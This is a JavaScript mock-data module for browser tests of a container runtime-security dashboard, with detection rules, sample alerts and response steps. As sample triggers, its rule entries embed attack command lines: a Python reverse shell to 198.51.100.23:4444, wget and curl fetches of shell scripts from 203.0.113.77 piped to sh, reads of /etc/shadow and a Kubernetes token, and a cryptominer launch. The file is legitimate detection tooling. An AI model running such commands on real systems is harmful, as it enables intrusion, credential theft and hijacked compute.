// Data for the development mock: deterministic, so that two runs of the browser
// test see the same screens. Nothing here is shipped in the bundle.
let seed = 20261;
export const rnd = () => { // mulberry32
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = (list) => list[Math.floor(rnd() * list.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(rnd() * 16).toString(16)).join("");
export const ns = (ms) => String(BigInt(Math.round(ms * 1000)) * 1000n);
export const SEV = ["UNSPECIFIED", "INFORMATIONAL", "LOW", "MEDIUM", "HIGH", "CRITICAL"];

const ctr = (name, image, pod, namespace) => ({
  id: hex(64), name, image, digest: "sha256:" + hex(64), pod, namespace, runtime: "containerd",
});
export const containers = [
  ctr("web", "registry.example.com/shop/storefront:4.12.0", "storefront-6c9f7d8b5-x2kqp", "shop"),
  ctr("api", "registry.example.com/shop/checkout-api:2.3.1", "checkout-api-7d9c5b6f44-9zv8m", "shop"),
  ctr("worker", "registry.example.com/pay/settlement:0.9.4", "settlement-0", "payments"),
  ctr("redis", "docker.io/library/redis:7.4", "cache-redis-0", "shop"),
  ctr("runner", "registry.example.com/ci/runner:2026.10", "runner-8hq2v", "ci"),
  { id: hex(64), runtime: "runc", unknown: "the runtime's state file was gone before it could be read (container lived 40 ms)" },
];
const workloads = ["shop/Deployment/storefront", "shop/Deployment/checkout-api", "payments/StatefulSet/settlement", "shop/StatefulSet/cache-redis", "ci/Job/runner", ""];

// Each rule comes with the process that trips it and how its alert reads.
const cond = (expr, field, op, want, got, more = {}) => ({ expr, field, op, want, got, true: true, ...more });
export const rules = [
  { id: "shell-from-network-service", name: "Shell started by a network service", sev: 4, tactics: ["Execution", "Initial Access"], techniques: ["T1059.004", "T1190"],
    condition: "spawned_process and container and proc.name in (sh, bash, dash, ash) and proc.pname in (nginx, node, java, httpd, gunicorn) and not proc.tty exists",
    p: { name: "sh", path: "/bin/busybox", cmdline: "sh -c id; uname -a; cat /etc/passwd | head -3; wget -qO- http://203.0.113.77/i.sh", uid: 33, user: "www-data" },
    parents: [["node", "/usr/local/bin/node", "node /srv/app/server.js --port 8080 --workers 4", 33, "www-data", true], ["tini", "/sbin/tini", "/sbin/tini -- node /srv/app/server.js", 0, "root", true]],
    object: "", cls: "none", say: (c) => `A shell was started by the web server node in ${c}.`,
    why: [cond("evt.type in (execve, execveat)", "evt.type", "in", "(execve, execveat)", "execve"), cond("container.id != host", "container.id", "!=", "host", "3f9a1c77d2e0"),
      cond("proc.name in (sh, bash, dash, ash)", "proc.name", "in", "(sh, bash, dash, ash)", "sh"), cond("proc.pname in (nginx, node, java, httpd, gunicorn)", "proc.pname", "in", "(nginx, node, java, httpd, gunicorn)", "node"),
      cond("not proc.tty exists", "proc.tty", "exists", "", "", { null: true, negate: true })],
    response: ["Look at the whole command line: is this the application's own health check or something it was made to run?", "Read the web server's access log for the seconds before the first occurrence.", "If it was not intended: isolate the pod, keep its filesystem, and replace the image."] },
  { id: "reverse-shell-dup", name: "Standard streams tied to a network connection", sev: 5, tactics: ["Execution", "Command and Control"], techniques: ["T1059.004", "T1071"],
    condition: "evt.type in (dup, dup2, dup3) and container and evt.rawres in (0, 1, 2) and fd.type in (ipv4, ipv6)",
    p: { name: "bash", path: "/usr/bin/bash", cmdline: "bash -i", uid: 0, user: "root" },
    parents: [["python3", "/usr/bin/python3.12", "python3 -c import socket,os,pty;s=socket.socket();s.connect(('198.51.100.23',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('bash')", 0, "root", true], ["sh", "/bin/dash", "sh -c python3 -c ...", 0, "root", true], ["gunicorn", "/usr/local/bin/python3.12", "/usr/local/bin/python3.12 /usr/local/bin/gunicorn checkout.wsgi:application --bind 0.0.0.0:8000 --workers 8 --access-logfile - --error-logfile - --timeout 30", 0, "root", true]],
    object: "198.51.100.23:4444", cls: "address", say: (c) => `bash in ${c} has its input and output tied to a connection to 198.51.100.23:4444: somebody may be typing into it.`,
    why: [cond("evt.type in (dup, dup2, dup3)", "evt.type", "in", "(dup, dup2, dup3)", "dup2"), cond("container.id != host", "container.id", "!=", "host", "77d2e03f9a1c"), cond("evt.rawres in (0, 1, 2)", "evt.rawres", "in", "(0, 1, 2)", "0"), cond("fd.type in (ipv4, ipv6)", "fd.type", "in", "(ipv4, ipv6)", "ipv4"), cond("not fd.sip in (127.0.0.1)", "fd.sip", "in", "(127.0.0.1)", "198.51.100.23", { negate: true })],
    response: ["Treat the container as taken over until shown otherwise.", "Cut the pod's egress to 198.51.100.23 and keep the process list.", "Rotate every secret mounted in the pod, its service-account token first."] },
  { id: "credential-file-read", name: "Credential file read by an unusual program", sev: 3, tactics: ["Credential Access"], techniques: ["T1003.008", "T1552.001"],
    condition: "open_read and container and fd.name in (/etc/shadow, /etc/sudoers) and not proc.name in (sshd, sudo, su, passwd)",
    p: { name: "cat", path: "/bin/busybox", cmdline: "cat /etc/shadow", uid: 0, user: "root" },
    parents: [["sh", "/bin/busybox", "sh", 0, "root", true], ["runc", "/usr/sbin/runc", "runc exec --tty settlement sh", 0, "root", false]],
    object: "/etc/shadow", cls: "file", say: (c) => `cat read the password hashes in /etc/shadow in ${c}.`,
    why: [cond("evt.type in (open, openat, openat2)", "evt.type", "in", "(open, openat, openat2)", "openat"), cond("evt.is_open_read = true", "evt.is_open_read", "=", "true", "true"), cond("fd.name in (/etc/shadow, /etc/sudoers)", "fd.name", "in", "(/etc/shadow, /etc/sudoers)", "/etc/shadow"), cond("not proc.name in (sshd, sudo, su, passwd)", "proc.name", "in", "(sshd, sudo, su, passwd)", "cat", { negate: true })],
    response: ["Ask the workload's owner whether a person opened a shell there at this time.", "If not, treat the hashes as known to an attacker and change the passwords."] },
  { id: "service-account-token-read", name: "Service-account token read by a tool", sev: 4, tactics: ["Credential Access", "Discovery"], techniques: ["T1528", "T1613"],
    condition: "open_read and container and fd.name startswith /var/run/secrets/kubernetes.io/serviceaccount/token and proc.name in (cat, curl, sh, bash)",
    p: { name: "curl", path: "/usr/bin/curl", cmdline: "curl -sk -H Authorization: Bearer [redacted] https://10.96.0.1/api/v1/namespaces/payments/secrets", uid: 1000, user: "" },
    parents: [["bash", "/usr/bin/bash", "bash", 1000, "", true], ["worker", "/app/settlement", "/app/settlement --queue=settle-eu", 1000, "", true]],
    object: "/var/run/secrets/kubernetes.io/serviceaccount/token", cls: "file", say: (c) => `curl read the Kubernetes service-account token in ${c}.`,
    why: [cond("evt.is_open_read = true", "evt.is_open_read", "=", "true", "true"), cond("fd.name startswith /var/run/secrets/kubernetes.io/serviceaccount/token", "fd.name", "startswith", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/kubernetes.io/serviceaccount/token"), cond("proc.name in (cat, curl, sh, bash)", "proc.name", "in", "(cat, curl, sh, bash)", "curl")],
    response: ["List what the account may do: kubectl auth can-i --list --as=system:serviceaccount:payments:settlement", "Look in the API server's audit log for its calls since the first occurrence."] },
  { id: "metadata-service-access", name: "Cloud metadata service contacted from a container", sev: 3, tactics: ["Credential Access"], techniques: ["T1552.005"],
    condition: "evt.type = connect and container and fd.sip = 169.254.169.254",
    p: { name: "curl", path: "/usr/bin/curl", cmdline: "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", uid: 0, user: "root" },
    parents: [["bash", "/usr/bin/bash", "bash /entry.sh", 0, "root", true]],
    object: "169.254.169.254:80", cls: "address", say: (c) => `curl in ${c} asked the cloud's metadata service, which hands out the node's identity.`,
    why: [cond("evt.type = connect", "evt.type", "=", "connect", "connect"), cond("container.id != host", "container.id", "!=", "host", "c77d2e03f9a1"), cond("fd.sip = 169.254.169.254", "fd.sip", "=", "169.254.169.254", "169.254.169.254")],
    response: ["Block 169.254.169.254 for pods with a network policy unless they need it.", "See which tokens the node's identity was issued in the sign-in log."] },
  { id: "drift-executed", name: "Program written in the container and then executed", sev: 4, tactics: ["Execution", "Defense Evasion"], techniques: ["T1204", "T1036"],
    condition: "spawned_process and container and proc.is_exe_upper_layer = true and proc.exe_written = true",
    p: { name: "kdevtmpfsi", path: "/tmp/.X11-unix/kdevtmpfsi", cmdline: "/tmp/.X11-unix/kdevtmpfsi -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --cpu-priority 0 --donate-level 1 --background", uid: 999, user: "redis" },
    parents: [["sh", "/bin/dash", "sh -c curl -fsSL http://203.0.113.77/init.sh | sh", 999, "redis", true], ["redis-server", "/usr/local/bin/redis-server", "redis-server *:6379", 999, "redis", true]],
    object: "/tmp/.X11-unix/kdevtmpfsi", cls: "file", say: (c) => `kdevtmpfsi, a program that is not part of the image, was written and then run in ${c}.`,
    why: [cond("evt.type in (execve, execveat)", "evt.type", "in", "(execve, execveat)", "execve"), cond("proc.is_exe_upper_layer = true", "proc.is_exe_upper_layer", "=", "true", "true"), cond("proc.exe_written = true", "proc.exe_written", "=", "true", "true"), cond("not container.image.repository exists", "container.image.repository", "exists", "", "", { null: true, negate: true })],
    response: ["Keep a copy of the file and its hash before the container goes.", "Replace the pod; a clean image does not contain this program.", "Find how it was written: look for a shell or a download just before."] },
  { id: "ld-so-preload-write", name: "ld.so.preload written", sev: 5, tactics: ["Persistence", "Privilege Escalation", "Defense Evasion"], techniques: ["T1574.006"],
    condition: "open_write and fd.name = /etc/ld.so.preload",
    p: { name: "install.sh", path: "/usr/bin/bash", cmdline: "bash /tmp/install.sh --prefix=/usr/local/lib/.cache", uid: 0, user: "root" },
    parents: [["sshd", "/usr/sbin/sshd", "sshd: root@pts/0", 0, "root", false], ["systemd", "/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd --system --deserialize 31", 0, "root", false]],
    object: "/etc/ld.so.preload", cls: "file", host: true, say: () => "bash wrote /etc/ld.so.preload on the host, which loads a library into every program.",
    why: [cond("evt.is_open_write = true", "evt.is_open_write", "=", "true", "true"), cond("fd.name = /etc/ld.so.preload", "fd.name", "=", "/etc/ld.so.preload", "/etc/ld.so.preload")],
    response: ["Do not log in with a password on this machine until this is understood.", "Read the file named in /etc/ld.so.preload from a rescue system."] },
  { id: "download-piped-to-shell", name: "Download piped to a shell", sev: 2, tactics: ["Execution", "Command and Control"], techniques: ["T1059.004", "T1105"],
    condition: "spawned_process and container and proc.name in (sh, bash) and proc.stdin.peer in (curl, wget)",
    p: { name: "sh", path: "/bin/dash", cmdline: "sh -s -- --yes", uid: 1001, user: "runner" },
    parents: [["bash", "/usr/bin/bash", "bash -e /runner/_work/_temp/9c1b.sh", 1001, "runner", true], ["Runner.Worker", "/runner/bin/Runner.Worker", "/runner/bin/Runner.Worker spawnclient 118 121", 1001, "runner", true]],
    object: "", cls: "none", say: (c) => `A script was downloaded and run at once by sh in ${c}.`,
    why: [cond("proc.name in (sh, bash)", "proc.name", "in", "(sh, bash)", "sh"), cond("proc.stdin.peer in (curl, wget)", "proc.stdin.peer", "in", "(curl, wget)", "curl")],
    response: ["Pin what is downloaded by digest, and check it before running it.", "In a build job this is often ordinary: dismiss it with the reason, once."] },
].map((r, i) => ({ ...r, hash: hex(16), file: "detect/rules/" + r.id + ".yaml", line: 12 + i, answers: ["K8S.NODE_" + r.id.toUpperCase().replaceAll("-", "_")],
  desc: `${r.name}. Ordinary software in a container rarely does this; attackers do it early.`, tags: ["container", "mitre_" + r.tactics[0].toLowerCase().replaceAll(" ", "_")] }));

export const unassessed = [
  ["kernel-module-load", "Kernel module loaded", 5, "no source supplies evt.type init_module, finit_module yet", ["Persistence"]],
  ["ptrace-attach", "Process attached with ptrace", 3, "no source supplies evt.type ptrace yet", ["Defense Evasion"]],
  ["dns-tunnel", "Name lookups that carry data", 3, "no source supplies evt.type sendto, recvfrom yet", ["Exfiltration"]],
];


export function makeAlert(r, ci, at, first, count, status = 1) {
  const c = r.host ? undefined : containers[ci];
  const where = r.host ? "the host" : c.unknown ? "an unidentified container" : c.pod || c.name;
  const id = hex(16);
  const lineage = [];
  const pid0 = 2000 + Math.floor(rnd() * 60000);
  lineage.push({ pid: pid0, vpid: c ? 40 + Math.floor(rnd() * 300) : pid0, name: r.p.name, path: r.p.path, cmdline: r.p.cmdline, cwd: c ? "/srv/app/" : "/root/", user: r.p.user, uid: r.p.uid, start: ns(at - 40), inContainer: !!c });
  r.parents.forEach(([name, path, cmdline, uid, user, inC], i) => lineage.push({ pid: pid0 - 7 * (i + 1), vpid: c && inC ? (i === r.parents.length - 1 ? 1 : 20 - i) : pid0 - 7 * (i + 1), name, path, cmdline, cwd: "/", user, uid, start: ns(at - 3600e3 * (i + 1)), inContainer: !!c && inC, seeded: i > 0 }));
  if (c) lineage.push({ pid: 1811, vpid: 1811, name: "containerd-shim", path: "/usr/bin/containerd-shim-runc-v2", cmdline: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${c.id} -address /run/containerd/containerd.sock`, cwd: "/run/containerd/", user: "root", uid: 0, start: ns(at - 9 * 86400e3), inContainer: false, seeded: true });
  lineage.push({ pid: 1, vpid: 1, name: "systemd", path: "/usr/lib/systemd/systemd", cmdline: "/sbin/init", cwd: "/", user: "root", uid: 0, start: ns(at - 12 * 86400e3), inContainer: false, seeded: true });
  const loss = rnd() < 0.12;
  const a = {
    id, fingerprint: "1:" + hex(24), status: "ALERT_STATUS_" + ["", "OPEN", "ACKNOWLEDGED", "RESOLVED", "DISMISSED"][status], severity: "SEVERITY_" + SEV[r.sev],
    title: r.name, summary: r.say(where), firstSeen: ns(first), lastSeen: ns(at), count: String(count), ruleId: r.id, tactics: r.tactics, techniques: r.techniques,
    subject: { node: "aks-user-14382954-vmss000002", container: c, workload: r.host ? "host" : workloads[ci] || "unknown", process: r.p.name, executable: r.p.path, user: r.p.user, object: r.object, objectClass: r.cls },
    storedAt: ns(at + 38 + rnd() * 60), kernelTime: ns(at), affectedByLoss: loss, changeSeq: "1", assignee: "", note: "",
  };
  const detail = {
    rule: { ...r, sev: undefined, p: undefined, parents: undefined, say: undefined, why: undefined, object: undefined, cls: undefined, host: undefined, enabled: true, severity: SEV[r.sev].toLowerCase() },
    output: `${r.name} (proc=${r.p.name} cmdline=${r.p.cmdline} user=${r.p.user || "<NA>"} container=${c ? c.id.slice(0, 12) : "host"})`,
    why: r.why, lineage, eventIds: [`aks-user-14382954-vmss000002/9d1c/1/${Math.floor(rnd() * 1e7)}`], findingId: hex(32),
    eventJson: JSON.stringify({ type: r.why[0].got, time: a.kernelTime, boot: String(Math.floor(rnd() * 1e15)), tid: pid0, ret: 0, process: { pid: pid0, name: r.p.name, exepath: r.p.path, args: r.p.cmdline.split(" ").slice(1), uid: r.p.uid }, container: c ? { id: c.id, image: c.image } : null, fd: r.object ? { name: r.object } : null }),
    losses: loss ? [{ hop: "sensor.ring", reason: "ring_full", lane: "activity", count: String(37 + Math.floor(rnd() * 900)), from: ns(at - 2400), to: ns(at + 900) }] : [],
    history: status === 1 ? [] : [{ time: ns(at + 600e3), from: "ALERT_STATUS_OPEN", to: a.status, who: "local administrator", why: status === 4 ? "nightly backup job reads this on purpose" : status === 3 ? "image replaced, secrets rotated" : "" }],
  };
  const occurrences = Array.from({ length: Math.min(count, 60) }, (_, i) => ({ findingId: hex(32), time: ns(at - ((at - first) * i) / Math.max(1, count - 1)), storedAt: ns(at - ((at - first) * i) / Math.max(1, count - 1) + 45), summary: a.summary, cmdline: r.p.cmdline }));
  return { alert: a, detail, occurrences };
}

export function seedAlerts(now, n = 137) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const r = pick(rules);
    const ci = Math.floor(rnd() * containers.length);
    const age = i < 8 ? rnd() * 300e3 : Math.pow(rnd(), 3) * 9 * 86400e3;
    const count = rnd() < 0.6 ? 1 : 1 + Math.floor(Math.pow(rnd(), 4) * 4000);
    const status = i < 8 ? 1 : rnd() < 0.62 ? 1 : 2 + Math.floor(rnd() * 3);
    out.push(makeAlert(r, ci, now - age, now - age - (count > 1 ? rnd() * 86400e3 : 0), count, status));
  }
  return out;
}
